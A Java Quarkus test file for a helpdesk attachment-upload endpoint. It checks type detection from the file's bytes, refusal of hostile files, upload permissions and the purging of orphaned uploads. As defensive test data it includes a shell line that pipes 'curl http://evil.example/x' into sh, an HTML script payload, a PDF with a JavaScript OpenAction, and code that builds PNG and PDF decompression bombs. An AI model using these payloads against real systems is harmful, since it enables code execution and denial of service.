package dev.zhijia.helpdesk;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

import jakarta.inject.Inject;

import dev.zhijia.common.ShiftableClock;
import dev.zhijia.testsupport.Fixtures;
import dev.zhijia.testsupport.StaffAccounts;
import io.quarkus.test.junit.QuarkusTest;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

import static dev.zhijia.helpdesk.HelpdeskTestData.upload;
import static org.hamcrest.Matchers.is;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;

/** Uploads are judged by their bytes: hostile files are refused with problem+json and nothing is stored. */
@QuarkusTest
class AttachmentTest {

    @Inject
    ShiftableClock clock;

    @Inject
    Attachments attachments;

    @AfterEach
    void resetClock() {
        clock.reset();
    }

    @Test
    void realImagesAndPdfsAreTakenWithTheirTypeFromTheBytes() {
        Fixtures.MemberLogin m = Fixtures.newMember();
        upload(m.accessToken(), "image/jpeg", HelpdeskTestData.jpeg(120, 80))
                .statusCode(201)
                .body("type", is("image/jpeg"))
                .body("width", is(120))
                .body("height", is(80));
        // the header says JPEG, the bytes say PNG: the bytes win
        upload(m.accessToken(), "image/jpeg", HelpdeskTestData.png(10, 10))
                .statusCode(201)
                .body("type", is("image/png"));
        upload(m.accessToken(), "application/octet-stream", HelpdeskTestData.pdf())
                .statusCode(201)
                .body("type", is("application/pdf"));
    }

    @Test
    void hostileUploadsAreRefusedAndNothingIsStored() {
        Fixtures.MemberLogin m = Fixtures.newMember();
        String owner = "member:" + m.id();
        refused(
                m,
                "image/jpeg",
                "#!/bin/sh\ncurl http://evil.example/x | sh\n".getBytes(StandardCharsets.UTF_8),
                415,
                "ATTACHMENT_TYPE_INVALID");
        refused(
                m,
                "image/png",
                "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8),
                415,
                "ATTACHMENT_TYPE_INVALID");
        // JPEG magic bytes and nothing of a JPEG after them
        byte[] fakeJpeg = new byte[4096];
        fakeJpeg[0] = (byte) 0xff;
        fakeJpeg[1] = (byte) 0xd8;
        fakeJpeg[2] = (byte) 0xff;
        refused(m, "image/jpeg", fakeJpeg, 415, "ATTACHMENT_TYPE_INVALID");
        // 6 MB: refused before it is read, whatever it is
        byte[] big = Arrays.copyOf(HelpdeskTestData.jpeg(16, 16), 6 * 1024 * 1024);
        refused(m, "image/jpeg", big, 413, "ATTACHMENT_TOO_LARGE");
        // a PNG whose header claims 100,000 × 100,000 pixels (a decompression bomb)
        refused(m, "image/png", pngClaiming(100_000, 100_000), 415, "ATTACHMENT_TYPE_INVALID");
        // a zip archive sent as a PDF
        byte[] zip = "PK\u0003\u0004\u0014\u0000\u0000\u0000\u0008\u0000bomb.pdf".getBytes(StandardCharsets.ISO_8859_1);
        refused(m, "application/pdf", zip, 415, "ATTACHMENT_TYPE_INVALID");
        // a PDF header over a zip bomb: a 100 KB stream that inflates to 100 MB
        refused(m, "application/pdf", pdfBomb(), 415, "ATTACHMENT_TYPE_INVALID");
        // a PDF that runs a script when opened
        byte[] scripted = new String(HelpdeskTestData.pdf(), StandardCharsets.ISO_8859_1)
                .replace("/Type /Catalog", "/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
                .getBytes(StandardCharsets.ISO_8859_1);
        refused(m, "application/pdf", scripted, 415, "ATTACHMENT_TYPE_INVALID");
        // a PDF header and nothing of a PDF
        refused(
                m,
                "application/pdf",
                "%PDF-1.7\nnothing here".getBytes(StandardCharsets.ISO_8859_1),
                415,
                "ATTACHMENT_TYPE_INVALID");
        // a type the endpoint does not take at all
        upload(m.accessToken(), "text/plain", "hello".getBytes(StandardCharsets.UTF_8))
                .statusCode(415)
                .contentType(startsWith("application/problem+json"));
        assertEquals(
                List.of(0),
                Fixtures.query("SELECT COUNT(*) FROM help_attachment WHERE owner = ?", rs -> rs.getInt(1), owner));
    }

    @Test
    void onlyMembersAndCaseworkersUpload() {
        StaffAccounts.Login staff = StaffAccounts.create(List.of());
        upload(staff.accessToken(), "image/png", HelpdeskTestData.png(4, 4)).statusCode(403);
        upload(Fixtures.adminToken(), "image/png", HelpdeskTestData.png(4, 4)).statusCode(403);
    }

    @Test
    void uploadsNoCaseTookArePurgedAndTheOthersKept() {
        String org = HelpdeskTestData.org();
        Fixtures.MemberLogin m = Fixtures.verifiedMember("courier", org);
        long orphan = HelpdeskTestData.uploadPng(m);
        long used = HelpdeskTestData.uploadPng(m);
        long caseId = HelpdeskTestData.file(m, used);
        clock.shift(Duration.ofHours(25));
        attachments.purgeOrphans(1000);
        assertEquals(
                List.of(used),
                Fixtures.query("SELECT id FROM help_attachment WHERE id IN (?, ?)", rs -> rs.getLong(1), orphan, used));
        assertEquals(
                List.of(0),
                Fixtures.query(
                        "SELECT COUNT(*) FROM help_attachment_blob WHERE attachment_id = ?",
                        rs -> rs.getInt(1),
                        orphan));
        // a purged upload cannot be attached any more
        Fixtures.as(m)
                .contentType("application/json")
                .body("{\"text\":\"x\",\"attachmentIds\":[" + orphan + "]}")
                .post("/api/v1/cases/" + caseId + "/messages")
                .then()
                .statusCode(404)
                .body("code", is("ATTACHMENT_NOT_FOUND"));
    }

    private static void refused(Fixtures.MemberLogin m, String type, byte[] body, int status, String code) {
        upload(m.accessToken(), type, body)
                .statusCode(status)
                .contentType(startsWith("application/problem+json"))
                .body("code", is(code));
    }

    /** A valid PNG signature and IHDR (with its CRC) claiming this size, and no pixel data worth the name. */
    private static byte[] pngClaiming(int width, int height) {
        ByteBuffer ihdr = ByteBuffer.allocate(17);
        ihdr.put("IHDR".getBytes(StandardCharsets.ISO_8859_1));
        ihdr.putInt(width)
                .putInt(height)
                .put((byte) 8)
                .put((byte) 2)
                .put((byte) 0)
                .put((byte) 0)
                .put((byte) 0);
        CRC32 crc = new CRC32();
        crc.update(ihdr.array());
        ByteBuffer png = ByteBuffer.allocate(8 + 4 + 17 + 4 + 12);
        png.put(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
        png.putInt(13).put(ihdr.array()).putInt((int) crc.getValue());
        png.putInt(0).put("IEND".getBytes(StandardCharsets.ISO_8859_1)).putInt(0xae426082);
        return png.array();
    }

    private static byte[] pdfBomb() {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
        byte[] zeros = new byte[1024 * 1024];
        ByteArrayOutputStream compressed = new ByteArrayOutputStream();
        byte[] buf = new byte[64 * 1024];
        for (int i = 0; i < 100; i++) {
            deflater.setInput(zeros);
            while (!deflater.needsInput()) {
                compressed.write(buf, 0, deflater.deflate(buf));
            }
        }
        deflater.finish();
        while (!deflater.finished()) {
            compressed.write(buf, 0, deflater.deflate(buf));
        }
        deflater.end();
        ByteArrayOutputStream pdf = new ByteArrayOutputStream();
        byte[] head = ("%PDF-1.7\n1 0 obj\n<< /Length " + compressed.size() + " /Filter /FlateDecode >>\nstream\n")
                .getBytes(StandardCharsets.ISO_8859_1);
        pdf.writeBytes(head);
        pdf.writeBytes(compressed.toByteArray());
        pdf.writeBytes("\nendstream\nendobj\ntrailer\n<< >>\n%%EOF\n".getBytes(StandardCharsets.ISO_8859_1));
        return pdf.toByteArray();
    }
}
